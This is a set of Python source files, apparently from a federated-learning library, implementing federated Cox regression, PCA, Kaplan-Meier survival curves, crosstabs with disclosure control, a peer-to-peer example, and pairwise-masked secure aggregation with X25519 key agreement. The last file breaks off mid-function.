    orgs = organizations or [o["id"] for o in client.organization.list()]
    p = len(features)

    task = client.task.create(
        input_=make_task_input(
            "partial_event_times",
            kwargs={"time_col": time_col, "event_col": event_col},
        ),
        organizations=orgs, name="cox-event-times",
    )
    partials = [r for r in client.wait_for_results(task["id"]) if r]
    times = np.unique(np.concatenate([p_["event_times"] for p_ in partials]))
    n_total = sum(p_["n"] for p_ in partials)

    beta = np.zeros(p, np.float32)
    converged, it = False, 0
    for it in range(1, max_iter + 1):
        task = client.task.create(
            input_=make_task_input(
                "partial_cox_stats",
                kwargs={"beta": beta, "features": list(features),
                        "time_col": time_col, "event_col": event_col,
                        "event_times": times},
            ),
            organizations=orgs, name="cox-newton",
        )
        partials = [r for r in client.wait_for_results(task["id"]) if r]
        s0 = np.sum([q["s0"] for q in partials], axis=0)          # (K,)
        s1 = np.sum([q["s1"] for q in partials], axis=0)          # (K, p)
        s2 = np.sum([q["s2"] for q in partials], axis=0)          # (K, p, p)
        sx = np.sum([q["sx"] for q in partials], axis=0)          # (K, p)
        d = np.sum([q["d"] for q in partials], axis=0)            # (K,)

        mask = d > 0
        s0m = np.clip(s0[mask], 1e-30, None)
        dm, sxm = d[mask], sx[mask]
        s1m, s2m = s1[mask], s2[mask]
        mean = s1m / s0m[:, None]                                  # (K, p)
        grad = (sxm - dm[:, None] * mean).sum(axis=0)
        info = np.sum(
            dm[:, None, None]
            * (s2m / s0m[:, None, None]
               - np.einsum("kp,kq->kpq", mean, mean)),
            axis=0,
        )
        step = np.linalg.solve(info + 1e-8 * np.eye(p), grad)
        beta = (beta + step).astype(np.float32)
        if float(np.max(np.abs(step))) < tol:
            converged = True
            break

    return {
        "coefficients": dict(zip(features, beta.tolist())),
        "beta": beta,
        "hazard_ratios": dict(zip(features, np.exp(beta).tolist())),
        "iterations": it, "converged": converged,
        "n": n_total, "n_event_times": int(len(times)),
    }
