"""Federated PCA via covariance aggregation.

Exact: workers emit (n, Σx, XᵀX) over their partition; the pooled
covariance assembles additively, and the central eigendecomposition
equals PCA on the pooled data. Worker sufficient statistics are computed
in jax (jit on first use in the persistent runtime).
"""

from __future__ import annotations

from typing import Sequence

import jax
import jax.numpy as jnp
import numpy as np

from vantage6_trn.algorithm.decorators import algorithm_client, data
from vantage6_trn.algorithm.table import Table
from vantage6_trn.common.serialization import make_task_input


@jax.jit
def _suffstats(x):
    return jnp.sum(x, axis=0), x.T @ x


@data(1)
def partial_pca_stats(df: Table, columns: Sequence[str] | None = None) -> dict:
    cols = list(columns) if columns else [
        c for c in df.columns if np.issubdtype(df[c].dtype, np.number)
    ]
    x = jnp.asarray(df.to_matrix(cols, dtype=np.float32))
    s, xtx = _suffstats(x)
    return {"n": int(x.shape[0]), "sum": np.asarray(s),
            "xtx": np.asarray(xtx), "columns": cols}


@algorithm_client
def pca(client, columns: Sequence[str] | None = None,
        n_components: int | None = None,
        organizations: Sequence[int] | None = None) -> dict:
    """Central: pooled covariance → eigenvectors/explained variance."""
    orgs = organizations or [o["id"] for o in client.organization.list()]
    task = client.task.create(
        input_=make_task_input("partial_pca_stats",
                               kwargs={"columns": columns}),
        organizations=orgs, name="pca",
    )
    partials = [r for r in client.wait_for_results(task["id"]) if r]
    if len(partials) != len(orgs):
        raise RuntimeError(
            f"pca: {len(orgs) - len(partials)} organizations failed"
        )
    cols = partials[0]["columns"]
    for p in partials:
        if p["columns"] != cols:
            raise RuntimeError(
                "pca: organizations report different column sets/orders "
                f"({p['columns']} vs {cols}) — pass an explicit `columns` "
                "list to align them"
            )
    n = sum(p["n"] for p in partials)
    total = np.sum([p["sum"] for p in partials], axis=0).astype(np.float64)
    xtx = np.sum([p["xtx"] for p in partials], axis=0).astype(np.float64)
    mean = total / n
    cov = (xtx - n * np.outer(mean, mean)) / max(n - 1, 1)
    evals, evecs = np.linalg.eigh(cov)
    order = np.argsort(evals)[::-1]
    evals, evecs = evals[order], evecs[:, order]
    k = len(cols) if n_components is None else n_components
    if not 0 <= k <= len(cols):
        raise ValueError(f"n_components must be in [0, {len(cols)}]")
    var = np.maximum(evals, 0.0)
    return {
        "columns": cols,
        "mean": mean,
        "components": evecs[:, :k].T,          # [k, d]
        "explained_variance": var[:k],
        "explained_variance_ratio": var[:k] / max(var.sum(), 1e-30),
        "n": n,
    }
