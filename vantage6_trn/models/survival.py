"""Federated Kaplan-Meier survival curves.

Parity with the flagship vantage6 ecosystem algorithm (federated KM):
workers emit per-event-time (events, at-risk) counts over their local
partition; the central function sums them and builds the product-limit
estimator — identical to the pooled KM curve. Optionally the event-time
grid can be binned (``precision``) so exact times aren't disclosed.
"""

from __future__ import annotations

from typing import Sequence

import numpy as np

from vantage6_trn.algorithm.decorators import algorithm_client, data
from vantage6_trn.algorithm.table import Table
from vantage6_trn.common.serialization import make_task_input


@data(1)
def partial_km_counts(df: Table, time_col: str, event_col: str,
                      times: Sequence[float] | None = None,
                      precision: int | None = None) -> dict:
    """Worker: (#events, #at-risk) at each global time point."""
    t = np.asarray(df[time_col], np.float64)
    e = np.asarray(df[event_col]) != 0
    if precision is not None:
        t = np.round(t, precision)
    if times is None:
        return {"event_times": np.unique(t[e]), "n": int(len(t))}
    times = np.asarray(times, np.float64)
    # O(N log N): sort once, count by binary search per grid point
    t_sorted = np.sort(t)
    ev_sorted = np.sort(t[e])
    at_risk = len(t) - np.searchsorted(t_sorted, times, side="left")
    events = (np.searchsorted(ev_sorted, times, side="right")
              - np.searchsorted(ev_sorted, times, side="left"))
    return {"events": events.astype(np.int64),
            "at_risk": at_risk.astype(np.int64), "n": int(len(t))}


@algorithm_client
def kaplan_meier(client, time_col: str = "time", event_col: str = "event",
                 precision: int | None = None,
                 organizations: Sequence[int] | None = None) -> dict:
    """Central: product-limit estimator over summed federated counts."""
    orgs = organizations or [o["id"] for o in client.organization.list()]
    kwargs = {"time_col": time_col, "event_col": event_col,
              "precision": precision}

    def _all_results(task):
        results = client.wait_for_results(task["id"])
        if len(results) != len(orgs) or any(r is None for r in results):
            raise RuntimeError(
                f"kaplan_meier: {sum(r is None for r in results)} of "
                f"{len(orgs)} organizations failed — refusing to return a "
                "curve over partial counts"
            )
        return results

    task = client.task.create(
        input_=make_task_input("partial_km_counts", kwargs=kwargs),
        organizations=orgs, name="km-times",
    )
    partials = _all_results(task)
    times = np.unique(np.concatenate([p["event_times"] for p in partials]))
    task = client.task.create(
        input_=make_task_input(
            "partial_km_counts", kwargs={**kwargs, "times": times},
        ),
        organizations=orgs, name="km-counts",
    )
    partials = _all_results(task)
    d = np.sum([p["events"] for p in partials], axis=0).astype(np.float64)
    n = np.sum([p["at_risk"] for p in partials], axis=0).astype(np.float64)
    with np.errstate(divide="ignore", invalid="ignore"):
        factors = np.where(n > 0, 1.0 - d / n, 1.0)
    survival = np.cumprod(factors)
    # Greenwood variance (safe denominator: np.where evaluates both sides)
    denom = np.where((n - d) > 0, n * (n - d), 1.0)
    term = np.where((n - d) > 0, d / denom, 0.0)
    var = survival**2 * np.cumsum(term)
    return {
        "time": times,
        "survival": survival,
        "std": np.sqrt(np.maximum(var, 0.0)),
        "events": d,
        "at_risk": n,
        "n": int(sum(p["n"] for p in partials)),
    }


@data(1)
def partial_crosstab(df: Table, row: str, col: str) -> dict:
    """Worker: local contingency counts as nested {row: {col: n}}."""
    rv = np.asarray(df[row]).astype(str)
    cv = np.asarray(df[col]).astype(str)
    cells: dict[str, dict[str, int]] = {}
    for a, b in zip(rv, cv):
        cells.setdefault(a, {})
        cells[a][b] = cells[a].get(b, 0) + 1
    return {"cells": cells, "n": int(len(rv))}


@algorithm_client
def crosstab(client, row: str, col: str,
             min_cell_count: int = 0,
             organizations: Sequence[int] | None = None) -> dict:
    """Central: summed contingency table; cells below ``min_cell_count``
    are suppressed (small-cell disclosure control, as the reference
    ecosystem's crosstab does). When any cell is suppressed, totals are
    withheld too — otherwise a single suppressed cell is recoverable by
    differencing against ``n``."""
    orgs = organizations or [o["id"] for o in client.organization.list()]
    task = client.task.create(
        input_=make_task_input("partial_crosstab",
                               kwargs={"row": row, "col": col}),
        organizations=orgs, name="crosstab",
    )
    partials = [r for r in client.wait_for_results(task["id"]) if r]
    total: dict[str, dict[str, int]] = {}
    for p in partials:
        for r_, colmap in p["cells"].items():
            dst = total.setdefault(r_, {})
            for c_, v in colmap.items():
                dst[c_] = dst.get(c_, 0) + int(v)
    rows = sorted(total)
    cols = sorted({c for colmap in total.values() for c in colmap})
    any_suppressed = False
    table: dict[str, dict[str, int | None]] = {}
    for r_ in rows:
        table[r_] = {}
        for c_ in cols:
            v = total.get(r_, {}).get(c_, 0)
            if 0 < min_cell_count and v < min_cell_count:
                table[r_][c_] = None
                any_suppressed = True
            else:
                table[r_][c_] = v
    n = sum(p["n"] for p in partials)
    return {"rows": rows, "cols": cols, "table": table,
            "n": None if any_suppressed else n,
            "suppressed_below": min_cell_count}
