"""Example algorithm: two-party peer-to-peer exchange over the peer channel
(vertical-FL communication pattern — values travel org↔org directly,
not through the coordinator)."""

from __future__ import annotations

import numpy as np

from vantage6_trn.algorithm.decorators import algorithm_client, data, metadata
from vantage6_trn.algorithm.peer import (
    PeerCrypto,
    PeerServer,
    peer_call,
    wait_for_peers,
)
from vantage6_trn.algorithm.table import Table
from vantage6_trn.common.serialization import make_task_input


@algorithm_client
@data(1)
@metadata
def partial_p2p_dot(client, df: Table, meta, column: str,
                    n_parties: int) -> dict:
    """Worker: expose my column-sum vector to peers; fetch theirs; dot."""
    import threading

    mine = np.array([float(np.sum(df[column])), float(len(df))], np.float32)

    served = threading.Semaphore(0)

    def serve_vector(_):
        served.release()
        return mine

    crypto = PeerCrypto(client, meta)
    peer = PeerServer(handlers={"vector": serve_vector}, crypto=crypto)
    peer.start()
    try:
        reg = client.vpn.register(peer.port, label="p2pdot",
                                  enc_key=crypto.enc_key)
        crypto.enabled = bool(reg.get("secured"))
        addrs = wait_for_peers(client, n_expected=n_parties, label="p2pdot",
                               crypto=crypto)
        others = [a for a in addrs
                  if a["organization_id"] != meta.organization_id]
        theirs = [np.asarray(peer_call(a, "vector", crypto=crypto),
                             np.float32)
                  for a in others]
        dots = [float(mine @ t) for t in theirs]
        # don't tear the server down until every peer has fetched from us
        for _ in others:
            served.acquire(timeout=30)
        return {
            "organization_id": meta.organization_id,
            "mine": mine,
            "dot_with_peers": dots,
            "n_peers": len(others),
        }
    finally:
        peer.stop()


@algorithm_client
def p2p_dot(client, column: str, organizations=None) -> dict:
    """Central: launch workers at every org; they exchange peer-to-peer."""
    orgs = organizations or [o["id"] for o in client.organization.list()]
    task = client.task.create(
        input_=make_task_input(
            "partial_p2p_dot",
            kwargs={"column": column, "n_parties": len(orgs)},
        ),
        organizations=orgs, name="p2p-dot",
    )
    results = [r for r in client.wait_for_results(task["id"]) if r]
    return {"results": results}
