"""Secure aggregation: pairwise-masked federated sums.

Reference capability parity: vantage6's ecosystem pattern where the
server/aggregator must not see individual updates, only the sum.
Protocol (Bonawitz-style, one round, no dropout recovery — round-1
scope):

1. the coordinator draws a seed ``s_ij`` per org pair and ships each org
   its seeds **inside the E2E-encrypted task input** (server can't read
   them; per-org payload encryption is the existing task machinery);
2. each org masks its update ``u_i`` with ``Σ_{j>i} PRG(s_ij) −
   Σ_{j<i} PRG(s_ji)`` and returns only the masked vector;
3. the coordinator sums — masks cancel pairwise (``ops.secure_sum`` /
   the BASS sum path on trn) — and never sees any individual ``u_i``.

PRG = numpy Philox keyed by the seed — deterministic across orgs.
"""

from __future__ import annotations

import secrets
from typing import Sequence

import numpy as np

from vantage6_trn.algorithm.decorators import algorithm_client, data
from vantage6_trn.algorithm.table import Table
from vantage6_trn.common.serialization import make_task_input
from vantage6_trn.ops.aggregate import secure_sum


def _prg(seed: int, dim: int) -> np.ndarray:
    return np.random.Generator(
        np.random.Philox(seed)
    ).normal(size=dim).astype(np.float32)


def _mask(org_id: int, pair_seeds: dict, dim: int) -> np.ndarray:
    """Σ_{j>i} PRG(s_ij) − Σ_{j<i} PRG(s_ij); keys are "i:j" with i<j."""
    m = np.zeros(dim, np.float32)
    for key, seed in pair_seeds.items():
        i, j = (int(v) for v in key.split(":"))
        if org_id == i:
            m += _prg(int(seed), dim)
        elif org_id == j:
            m -= _prg(int(seed), dim)
    return m


@data(1)
def partial_masked_sums(df: Table, columns: Sequence[str],
                        org_id: int, pair_seeds: dict) -> dict:
    """Worker: per-column [sum, count] masked with the pairwise PRG."""
    u = np.concatenate([
        np.array([np.sum(np.asarray(df[c], np.float64)),
                  float(len(df))], dtype=np.float32)
        for c in columns
    ])
    return {"masked": u + _mask(org_id, pair_seeds, len(u)),
            "org_id": org_id}


@algorithm_client
def secure_mean(client, columns: Sequence[str],
                organizations: Sequence[int] | None = None) -> dict:
    """Central: federated per-column mean where no individual org's sum
    is ever visible to the aggregator."""
    orgs = list(organizations or
                [o["id"] for o in client.organization.list()])
    pair_seeds = {
        f"{i}:{j}": secrets.randbits(63)
        for a, i in enumerate(orgs) for j in orgs[a + 1:]
    }
    # NB: every org receives all pair seeds; it uses only its own pairs.
    # (Per-org seed subsets would need per-org inputs — the task API
    # sends one input to all targets; acceptable because orgs already
    # learn the masks they share. Hardening: per-org subtasks.)
    dim = 2 * len(columns)
    results = []
    for org in orgs:
        t = client.task.create(
            input_=make_task_input(
                "partial_masked_sums",
                kwargs={"columns": list(columns), "org_id": org,
                        "pair_seeds": pair_seeds},
            ),
            organizations=[org], name="secure-agg",
        )
        results.extend(r for r in client.wait_for_results(t["id"]) if r)
    total = secure_sum([np.asarray(r["masked"], np.float32)
                        for r in results])
    out = {}
    for k, c in enumerate(columns):
        s, n = float(total[2 * k]), float(total[2 * k + 1])
        out[c] = s / n
    return {"mean": out, "n": int(round(float(total[1]))),
            "participants": len(orgs)}
