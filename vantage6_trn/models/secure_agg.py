"""Secure aggregation: pairwise-masked federated sums (Bonawitz-style).

Reference capability parity: vantage6's ecosystem pattern where the
aggregator must not see individual updates, only the sum. Unlike the
round-1 version (coordinator drew every pair seed and could unmask
anyone), the pair seeds here come from **client-side X25519 key
agreement** — the coordinator relays only public keys and can never
reconstruct a mask:

1. ``secagg_keygen``: each org draws an ephemeral X25519 keypair, keeps
   the private half in its node-local job scratch (never serialized into
   a result), and returns the public half.
2. ``secagg_masked_sums``: the coordinator broadcasts the public-key
   directory; each org derives one seed per peer via DH + SHA-256, masks
   its fixed-point update with ``Σ_{j>i} PRG_ij − Σ_{j<i} PRG_ij`` in
   uint64 modular arithmetic (perfect hiding: masks are uniform over
   Z_2^64 and wraparound makes cancellation *exact* — no float error at
   mask scale), and returns only the masked vector.
3. The coordinator sums mod 2^64; masks cancel pairwise; the fixed-point
   sum decodes to the true totals.
4. Single-dropout recovery: if an org vanishes between keygen and
   result delivery, each survivor reveals only the mask terms it shares
   with the *dropped* org (``secagg_reveal``); subtracting them unmasks
   the survivors' sum. Survivor↔survivor masks are never revealed.

Threat model: honest-but-curious coordinator/server, no collusion
between the coordinator and participating orgs. An *active* coordinator
that falsely reports dropouts or re-runs with different cohorts can
difference sums across sessions — that class of attack is inherent to
re-queryable aggregation and must be bounded by DP noise on top (see
``models.dpsgd``). Dropout of all but one org aborts (a "sum" of one
update is the update).

Fixed-point encoding: round(u · 2^scale_bits) as int64 two's-complement
in uint64. With the default 24 fractional bits there is ±2^39 of integer
headroom — far beyond data sums here — and decode is exact to 6e-8.
"""

from __future__ import annotations

import base64
import hashlib
import logging
from typing import Sequence

import numpy as np
from cryptography.hazmat.primitives import serialization as _ser
from cryptography.hazmat.primitives.asymmetric.x25519 import (
    X25519PrivateKey,
    X25519PublicKey,
)

from vantage6_trn.algorithm import state
from vantage6_trn.algorithm.decorators import algorithm_client, data, metadata
from vantage6_trn.algorithm.table import Table
from vantage6_trn.common.serialization import make_task_input

log = logging.getLogger(__name__)
from vantage6_trn.ops.admission import PoisonedRoundError, UpdateRejected
from vantage6_trn.ops.aggregate import ModularSumStream

DEFAULT_SCALE_BITS = 24


# --- fixed-point codec ----------------------------------------------------
def encode_fixed(u: np.ndarray, scale_bits: int = DEFAULT_SCALE_BITS
                 ) -> np.ndarray:
    """float → round(u·2^f) as int64 two's-complement, viewed uint64.

    Rejects non-finite input: NaN/inf would cast to INT64_MIN silently
    and corrupt the aggregate without any signal. Raising here turns a
    bad local value into a visible failed run (→ dropout handling)
    instead of a plausible-looking wrong mean.
    """
    u = np.asarray(u, np.float64)
    if not np.isfinite(u).all():
        raise ValueError(
            "secure aggregation input contains NaN/inf — refusing to "
            "encode (would corrupt the masked sum silently)"
        )
    # same silent-corruption class as NaN: a value past the integer
    # headroom would cast to INT64_MIN with only a numpy warning and
    # decode to a plausible-looking wrong total
    limit = float(1 << (63 - scale_bits))
    if np.abs(u).max(initial=0.0) >= limit:
        raise ValueError(
            f"secure aggregation input exceeds fixed-point range "
            f"(|value| must be < 2^{63 - scale_bits} at "
            f"scale_bits={scale_bits}); lower scale_bits or rescale "
            f"the data"
        )
    return np.round(u * (1 << scale_bits)).astype(np.int64).astype(np.uint64)


def decode_fixed(v: np.ndarray, scale_bits: int = DEFAULT_SCALE_BITS
                 ) -> np.ndarray:
    return v.astype(np.int64).astype(np.float64) / (1 << scale_bits)


def _check_opened_totals(totals: np.ndarray, participants: Sequence[int],
                         path: str) -> None:
    """Mandatory post-open sanity check on the decoded ``[sum, count]``
    column pairs.

    Masked updates are admission-exempt *by construction*: every masked
    payload is uniform over Z_2^64, so no per-update finiteness or norm
    gate can distinguish honest from byzantine bytes before the masks
    cancel. The only checkable invariants live in the opened aggregate:
    every org folds its (identical) row count into every column's count
    slot, so the decoded counts must be finite, non-negative, exactly
    integral (the fixed-point fraction bits of a count are zero), and
    identical across columns. Random corruption of a masked frame —
    NaN-fill patterns, bit-flips, scaled garbage — violates these with
    probability ≈ 1 − 2^−scale_bits.

    A failure is **org-indistinguishable**: masking means the opened sum
    carries no trace of which participant's bytes were corrupt (that is
    the privacy property working as designed), so the round fails
    loudly as a whole instead of shipping plausible-looking poisoned
    totals. Recovery is a session rerun, cohort bisection across
    reruns, or the admission-gated plain path. A *crafted* update that
    keeps its count slots consistent evades this check — robustness
    against adversarial (not just faulty) cohort members requires
    dropping to the unmasked path, where per-update admission applies.
    """
    from vantage6_trn.common.telemetry import REGISTRY

    counts = totals[1::2]
    bad = None
    if not np.isfinite(totals).all():
        bad = "non-finite totals"
    elif counts.size and float(counts.min()) < 0:
        bad = f"negative row count ({float(counts.min()):.6g})"
    elif counts.size and not np.array_equal(counts, np.round(counts)):
        bad = "non-integral row counts"
    elif counts.size and not np.all(counts == counts[0]):
        bad = "row counts differ across columns"
    if bad is None:
        return
    REGISTRY.counter(
        "v6_round_poisoned_total",
        "secure-agg rounds failed by the post-open sanity check",
    ).inc(path=path)
    raise PoisonedRoundError(
        f"opened secure aggregate failed the post-open check ({bad}). "
        f"The corrupt update is org-indistinguishable — masking hides "
        f"which of the {len(participants)} participants poisoned the "
        f"sum. Rerun the session, bisect the cohort across reruns, or "
        f"use the admission-gated non-masked path."
    )


# --- pairwise mask PRG ----------------------------------------------------
def _state_name(session: str, org_id: int) -> str:
    return f"secagg-{session}-org{org_id}"


def _pair_stream(shared: bytes, session: str, i: int, j: int,
                 dim: int) -> np.ndarray:
    """Uniform uint64 stream for pair (i,j), identical at both ends."""
    a, b = sorted((int(i), int(j)))
    digest = hashlib.sha256(
        shared + f"|secagg|{session}|{a}|{b}".encode()
    ).digest()
    gen = np.random.Generator(
        np.random.Philox(key=np.frombuffer(digest[:16], np.uint64))
    )
    return np.frombuffer(gen.bytes(dim * 8), np.uint64)


def _pair_masks(sk: X25519PrivateKey, org_id: int, org_pks: dict,
                session: str, dim: int, peers: Sequence[int] | None = None
                ) -> np.ndarray:
    """Net mask org_id applies: Σ_{j>i} PRG_ij − Σ_{j<i} PRG_ij (mod 2^64),
    restricted to ``peers`` when given (dropout recovery)."""
    mask = np.zeros(dim, np.uint64)
    for j_str, pk_b64 in org_pks.items():
        j = int(j_str)
        if j == org_id or (peers is not None and j not in peers):
            continue
        shared = sk.exchange(
            X25519PublicKey.from_public_bytes(base64.b64decode(pk_b64))
        )
        prg = _pair_stream(shared, session, org_id, j, dim)
        mask = mask + prg if org_id < j else mask - prg
    return mask


def _load_sk(meta, session: str) -> X25519PrivateKey:
    raw = state.load_state(meta, _state_name(session, meta.organization_id))
    if raw is None:
        raise RuntimeError(
            f"no secagg key material for session {session!r} at org "
            f"{meta.organization_id} — was secagg_keygen run here?"
        )
    return X25519PrivateKey.from_private_bytes(base64.b64decode(raw))


# --- worker phases --------------------------------------------------------
@metadata
def secagg_keygen(meta, session: str) -> dict:
    """Phase 1: ephemeral X25519 keypair; private half stays node-local."""
    sk = X25519PrivateKey.generate()
    raw = sk.private_bytes(
        _ser.Encoding.Raw, _ser.PrivateFormat.Raw, _ser.NoEncryption()
    )
    state.save_state(
        meta, _state_name(session, meta.organization_id),
        base64.b64encode(raw).decode(),  # noqa: V6L009 - X25519 private key persisted to node state, not wire payload
    )
    pk = sk.public_key().public_bytes(
        _ser.Encoding.Raw, _ser.PublicFormat.Raw
    )
    return {"org_id": meta.organization_id,
            "public_key": base64.b64encode(pk).decode()}  # noqa: V6L009 - key-exchange public key, key material


@data(1)
@metadata
def secagg_masked_sums(
    df: Table,
    meta,
    session: str,
    columns: Sequence[str],
    org_pks: dict,
    scale_bits: int = DEFAULT_SCALE_BITS,
    _fail: bool = False,
) -> dict:
    """Phase 2: per-column [sum, count], fixed-point, pairwise-masked.

    ``_fail`` lets tests simulate a dropout at a chosen org (per-org
    task inputs make it addressable)."""
    if _fail:
        raise RuntimeError("simulated dropout")
    org_id = meta.organization_id
    sk = _load_sk(meta, session)
    u = np.concatenate([
        np.array([np.sum(np.asarray(df[c], np.float64)), float(len(df))])
        for c in columns
    ])
    v = encode_fixed(u, scale_bits)
    masked = v + _pair_masks(sk, org_id, org_pks, session, len(v))
    return {"org_id": org_id, "masked": masked}


@data(1)
@metadata
def secagg_plain_sums(
    df: Table,
    meta,
    columns: Sequence[str],
    scale_bits: int = DEFAULT_SCALE_BITS,
    _fail: bool = False,
) -> dict:
    """Degraded phase 2: per-column [sum, count], fixed-point, UNMASKED.

    The fallback the coordinator negotiates down to when the task runs
    under a quorum/async round policy: pairwise masks only cancel over
    the FULL cohort, so a round that may close early cannot use them.
    The coordinator sees each org's plain sums (that is the degradation
    — counted and warned about in ``secure_aggregate``), but the exact
    mod-2^64 streamed combine and fixed-point codec are unchanged."""
    if _fail:
        raise RuntimeError("simulated dropout")
    u = np.concatenate([
        np.array([np.sum(np.asarray(df[c], np.float64)), float(len(df))])
        for c in columns
    ])
    return {"org_id": meta.organization_id,
            "sums": encode_fixed(u, scale_bits)}


@metadata
def secagg_cleanup(meta, session: str) -> dict:
    """Final phase: erase the session's private key from node disk.

    The keys are ephemeral *for forward secrecy*: if they survived on
    disk, an attacker reading a node later could combine them with the
    public transcript (org_pks + server-stored masked vectors) and
    unmask that org's past updates. The coordinator runs this
    best-effort at the end of every session, success or abort.
    """
    state.clear_state(meta, _state_name(session, meta.organization_id))
    return {"org_id": meta.organization_id, "cleared": True}


@metadata
def secagg_reveal(meta, session: str, dropped: Sequence[int],
                  org_pks: dict, dim: int) -> dict:
    """Phase 3 (dropout recovery): reveal ONLY the mask terms this org
    shares with the dropped orgs, so the coordinator can cancel them.
    Masks between surviving orgs remain secret."""
    org_id = meta.organization_id
    if org_id in set(int(d) for d in dropped):
        raise RuntimeError("a dropped org cannot reveal")
    sk = _load_sk(meta, session)
    corr = _pair_masks(sk, org_id, org_pks, session, int(dim),
                       peers=[int(d) for d in dropped])
    return {"org_id": org_id, "correction": corr}


# --- coordinator ----------------------------------------------------------
def _session_id() -> str:
    import secrets

    return secrets.token_hex(8)


def _degraded_aggregate(client, columns, orgs, scale_bits, aggregation,
                        policy, _fail_org) -> dict:
    """Non-masked streamed path for quorum/async round policies (the
    masks only cancel over the full cohort). Same fixed-point codec and
    exact mod-2^64 ``ModularSumStream`` combine; the round closes per
    ``policy`` (async degrades to the plain barrier — a one-shot sum
    has no multi-round structure to buffer)."""
    from vantage6_trn.common.rounds import RoundPolicy, iter_round

    close = (policy if policy.mode == "quorum"
             else RoundPolicy())  # async → plain barrier, still unmasked
    t = client.task.create(
        inputs={
            oid: make_task_input(
                "secagg_plain_sums",
                kwargs={"columns": list(columns),
                        "scale_bits": scale_bits,
                        "_fail": oid == _fail_org},
            )
            for oid in orgs
        },
        organizations=orgs, name="secagg-plain",
    )
    stream = ModularSumStream(method=aggregation, admission=True)
    survivors_set: set[int] = set()
    for item in iter_round(client, t["id"], close, raw=True):
        blob = item["result_blob"]
        if not blob:
            continue
        try:
            rest = stream.add_payload(blob, key="sums")
        except UpdateRejected as e:
            # structural staging discarded the fold: the accumulator
            # never saw the broken bytes, so the org simply counts as
            # not having delivered
            log.warning("degraded secure-agg: update rejected: %s", e)
            continue
        survivors_set.add(int(rest["org_id"]))
    if not survivors_set:
        raise RuntimeError("no org delivered sums before the round closed")
    totals = decode_fixed(stream.finish(), scale_bits)
    _check_opened_totals(totals, sorted(survivors_set), "degraded")
    return {
        "totals": totals,
        "participants": sorted(survivors_set),
        "dropped": sorted(set(orgs) - survivors_set),
        "session": None,
        "aggregation_backend": stream.backend,
        "degraded": True,
    }


@algorithm_client
def secure_aggregate(
    client,
    columns: Sequence[str],
    organizations: Sequence[int] | None = None,
    scale_bits: int = DEFAULT_SCALE_BITS,
    aggregation: str | None = None,   # 'jax' | 'bass' | 'nki'
    round_policy: dict | str | None = None,
    _fail_org: int | None = None,
) -> dict:
    """Run the full protocol; returns decoded per-column [sum, count]
    totals plus participant bookkeeping. ``aggregation`` picks the
    device-accumulate backend for the mod-2^64 combine (None → auto).
    ``_fail_org`` injects a simulated dropout (tests).

    ``round_policy``: the masked protocol is inherently a full-cohort
    barrier — pairwise masks cancel only across ALL participants, so an
    early-closed round would materialize a still-masked garbage sum. A
    quorum/async policy therefore negotiates DOWN to the non-masked
    streamed path: loud (warning + ``v6_round_degraded_total{reason}``),
    because it trades the hiding property for straggler tolerance."""
    from vantage6_trn.common.rounds import RoundPolicy
    from vantage6_trn.common.telemetry import REGISTRY

    orgs = list(organizations or
                [o["id"] for o in client.organization.list()])
    if len(orgs) < 2:
        raise ValueError("secure aggregation needs ≥2 organizations")
    policy = RoundPolicy.from_spec(round_policy)
    if policy.mode != "sync":
        log.warning(
            "secure aggregation under a %r round policy: pairwise masks "
            "need the full cohort — degrading to the NON-MASKED streamed "
            "path (the coordinator will see per-org sums)", policy.mode,
        )
        REGISTRY.counter(
            "v6_round_degraded_total",
            "round policies negotiated down to a weaker mechanism",
        ).inc(reason="secure_agg_full_cohort")
        return _degraded_aggregate(client, columns, orgs, scale_bits,
                                   aggregation, policy, _fail_org)
    session = _session_id()

    # phase 1: collect ephemeral public keys
    t1 = client.task.create(
        input_=make_task_input("secagg_keygen",
                               kwargs={"session": session}),
        organizations=orgs, name="secagg-keygen",
    )
    pks = [r for r in client.wait_for_results(t1["id"]) if r]
    org_pks = {str(r["org_id"]): r["public_key"] for r in pks}
    members = sorted(int(k) for k in org_pks)

    try:
        # inside the try: even an aborted session must erase the keys
        # any org already saved during keygen
        if len(members) < 2:
            raise RuntimeError("not enough orgs completed keygen")
        # phase 2: masked fixed-point sums (per-org inputs: a test can
        # address the dropout flag to one org)
        kw = {"session": session, "columns": list(columns),
              "org_pks": org_pks, "scale_bits": scale_bits}
        t2 = client.task.create(
            inputs={
                oid: make_task_input(
                    "secagg_masked_sums",
                    kwargs={**kw, "_fail": oid == _fail_org},
                )
                for oid in members
            },
            organizations=members, name="secagg-mask",
        )
        # stream the combine: each masked update ships to the device as
        # it arrives (ops.aggregate.ModularSumStream), so the exact
        # mod-2^64 reduction overlaps the straggler window; the abort
        # check runs before finish(), so no partial sum of <2 orgs is
        # ever materialized host-side. raw=True hands us the serialized
        # result blob, and add_payload streams the masked frame out of
        # it in CHUNK_BYTES slices — the full masked array is never
        # decoded into a second host copy (fused open+aggregate)
        stream = ModularSumStream(method=aggregation, admission=True)
        survivors_set: set[int] = set()
        for item in client.iter_results(t2["id"], raw=True):
            blob = item["result_blob"]
            if not blob:
                continue
            try:
                rest = stream.add_payload(blob, key="masked")
            except UpdateRejected as e:
                # structural staging kept the broken bytes out of the
                # accumulator; the org is treated as dropped, so the
                # phase-3 reveal cancels its uncancelled masks. Note
                # this is integrity-of-transport only — content-level
                # admission of masked updates is impossible (uniform
                # bytes), hence the post-open check below.
                log.warning("secure-agg: masked update rejected: %s", e)
                continue
            survivors_set.add(int(rest["org_id"]))
        survivors = sorted(survivors_set)
        dropped = sorted(set(members) - survivors_set)
        if len(survivors) < 2:
            raise RuntimeError(
                "fewer than 2 orgs delivered masked sums — aborting (a "
                "single remaining update must not be revealed)"
            )
        dim = 2 * len(columns)
        acc = stream.finish()

        # phase 3: cancel masks shared with dropped orgs
        if dropped:
            t3 = client.task.create(
                input_=make_task_input(
                    "secagg_reveal",
                    kwargs={"session": session, "dropped": dropped,
                            "org_pks": org_pks, "dim": dim},
                ),
                organizations=survivors, name="secagg-reveal",
            )
            reveals = [r for r in client.wait_for_results(t3["id"]) if r]
            if sorted(int(r["org_id"]) for r in reveals) != survivors:
                raise RuntimeError(
                    "dropout during recovery — abort and rerun the session"
                )
            for r in reveals:
                acc = acc - np.asarray(r["correction"], np.uint64)
    finally:
        # erase ephemeral private keys from node disk (forward secrecy),
        # success or abort; best-effort — an unreachable node cleans up
        # nothing, but an unreachable node also delivered no update
        try:
            if not members:
                raise RuntimeError("no keygen participants to clean up")
            tc = client.task.create(
                input_=make_task_input("secagg_cleanup",
                                       kwargs={"session": session}),
                organizations=members, name="secagg-cleanup",
            )
